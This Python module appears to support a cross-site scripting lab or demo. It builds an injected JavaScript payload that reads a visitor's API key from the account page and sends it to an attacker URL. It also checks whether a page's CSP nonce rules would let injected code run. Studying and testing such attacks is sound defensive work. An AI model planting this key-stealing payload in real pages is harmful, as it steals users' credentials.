"""What the two script attacks share: what the injected code does, and how to judge an answer without a browser."""

from __future__ import annotations

from html.parser import HTMLParser

from ..client import Answer


def steal_key(url: str) -> str:
    """Return JavaScript that reads the visitor's API key from the account page and sends it to ``url``."""
    return (
        "fetch('/account').then(r => r.text()).then(t => "
        f"{{ new Image().src = '{url}' + t.match(/key-[0-9a-f]+/)[0] }})"
    )


def words(found: str | None) -> str:
    """Say what the attacker received."""
    return f"The script ran; the attacker received ada's API key {found}" if found else "The attacker received nothing"


def would_run(answer: Answer, code: str) -> bool:
    """Return whether a browser would run injected ``code``: it stands in the page, and the policy asks for no nonce."""
    collector = _Code()
    collector.feed(answer.text)
    collector.close()
    nonce_required = "'nonce-" in answer.headers.get("Content-Security-Policy", "")
    return any(code in text and (nonce or not nonce_required) for text, nonce in collector.found)


class _Code(HTMLParser):
    """Collects scripts and inline handlers, each with its nonce."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str]] = []
        self._nonce: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # A nonce never covers a handler.
        self.found += [(value or "", "") for name, value in attrs if name.startswith("on")]
        if tag == "script":
            self._nonce = dict(attrs).get("nonce") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._nonce = None

    def handle_data(self, data: str) -> None:
        if self._nonce is not None:
            self.found.append((data, self._nonce))
